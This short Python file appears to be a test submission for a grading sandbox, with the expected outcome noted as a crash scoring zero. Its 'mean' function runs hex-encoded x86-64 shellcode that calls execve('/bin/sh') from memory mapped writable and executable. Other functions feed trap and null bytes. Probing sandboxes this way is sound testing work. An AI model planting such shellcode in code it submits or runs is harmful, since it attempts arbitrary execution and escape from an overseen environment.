# Runs machine code of its own, from memory that it made executable.
# everywhere: crashed|run_time_error, 0 points
import ctypes
import mmap


def run(code):
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()


def mean(x):
    # execve("/bin/sh") the way of the books; what is no code of this machine is a crash as well
    return run(bytes.fromhex("4831f65648bf2f62696e2f2f736857545f6a3b58990f05cc"))


def scale(x, c):
    return run(b"\xcc" * 16)


def apply(f, x):
    return run(b"\x00" * 16)
